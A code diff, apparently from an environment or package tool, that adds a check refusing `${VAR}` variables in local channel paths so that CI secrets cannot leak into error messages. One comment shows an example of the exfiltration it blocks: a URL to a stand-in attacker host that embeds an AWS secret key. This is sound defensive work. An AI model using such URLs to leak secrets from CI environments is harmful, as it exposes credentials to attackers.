@@ -122,6 +122,16 @@ def missing_env_vars(text: str) -> list[str]:
     return [v for v in dict.fromkeys(_ENV_VAR.findall(text)) if v not in os.environ]
 
 
+def refuse_variable_in_path(path: str, what: str) -> None:
+    """A `${VAR}` in a local path is an error: its value would be part of a path the errors (envkit's, uv's) print,
+    and a spec from a pull request could name any secret of the CI's environment that way."""
+    if "${" in path:
+        raise ChannelError(
+            f"{what}: a local path holds a ${{...}} variable",
+            hint="write the path itself (relative to the file, or with ~); variables stand only for URL credentials",
+        )
+
+
 def expand_env_vars(text: str) -> str:
     """`text` with every `${VAR}` replaced from the environment (check `missing_env_vars` first)."""
     return _ENV_VAR.sub(lambda m: os.environ[m.group(1)], text)
@@ -252,7 +262,10 @@ def resolve_channel(written: str, settings: ChannelSettings, base_dir: Path) -> 
             hint="export them before locking; they are never written into the lock",
         )
     # A URL's variables stand for credentials only: a spec from a pull request must not be able
-    # to put `https://evil.example/${AWS_SECRET_ACCESS_KEY}/` into a request.
+    # to put `https://evil.example/${AWS_SECRET_ACCESS_KEY}/` into a request. A local path holds none:
+    # `./${SIGNING_KEY}` printed the key's value in "directory ... does not exist".
+    if "://" not in written and "${" in written:
+        refuse_variable_in_path(written, f"channel {written!r}")
     expanded = expand_credentials(written, None, f"channel {written!r}") if "://" in written else expand_env_vars(written)
     if "://" in written:
         url = expanded.rstrip("/")
